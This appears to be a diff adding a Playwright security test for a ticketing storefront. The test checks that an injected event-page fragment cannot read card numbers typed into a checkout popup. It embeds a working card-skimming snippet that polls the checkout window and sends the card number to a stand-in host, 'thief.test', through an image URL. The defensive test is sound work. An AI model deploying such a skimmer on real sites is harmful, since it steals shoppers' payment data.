@@ -1,0 +1,54 @@
+import { expect } from '@playwright/test';
+import { changedPart } from '../src/releases/changed-part';
+import { runStorefront } from '../src/releases/run-storefront';
+import { addTickets } from '../src/steps/choose-tickets';
+import { cards, fillMxCard } from '../src/steps/fill-checkout';
+import { test } from '../src/store/isolated-store';
+
+const thief = 'https://thief.test';
+
+/** Opens the checkout in a window at the first click, and sends what is typed there as the address of a picture. */
+const hostileCode = `
+const look = (checkout: any) => {
+  (window as any).looks = ((window as any).looks ?? 0) + 1;
+  (window as any).reached = !checkout.closed;
+  const card = checkout.document?.querySelector('[autocomplete="cc-number"]')?.value;
+  if (card) new Image().src = '${thief}/?card=' + card;
+};
+window.addEventListener('click', () => {
+  const checkout = window.open(location.pathname + '/checkout');
+  setInterval(look, 20, checkout);
+}, { once: true });
+export default`;
+
+test('an event page that opens the checkout in a window cannot read the card that is typed there', async ({
+  page,
+  store,
+}) => {
+  const { port } = new URL(store.origin);
+  const version = `6.6.6-${Date.now()}`;
+  const folder = changedPart('remote-event', version, 'fragment.tsx', 'export default', hostileCode);
+  for (const words of [
+    ['publish', 'remote-event', '--folder', folder, '--version', version],
+    ['promote', 'remote-event', version],
+  ]) {
+    expect(await runStorefront(port, ...words)).toMatchObject({ code: 0 });
+  }
+  const stolen: string[] = [];
+  await page.context().route(`${thief}/**`, (route) => {
+    stolen.push(route.request().url());
+    return route.abort();
+  });
+
+  await page.goto('/events/harbor');
+  const opened = page.waitForEvent('popup');
+  await addTickets(page, 'General Admission', 1);
+  const checkout = await opened;
+  await checkout.reload();
+  await fillMxCard(checkout, cards.approved);
+  const looks = () => page.evaluate(() => Number(Reflect.get(window, 'looks')));
+  const typedAt = await looks();
+  await expect.poll(looks).toBeGreaterThan(typedAt + 5);
+  expect(stolen).toEqual([]);
+  expect(await page.evaluate(() => Reflect.get(window, 'reached'))).toBe(false);
+});
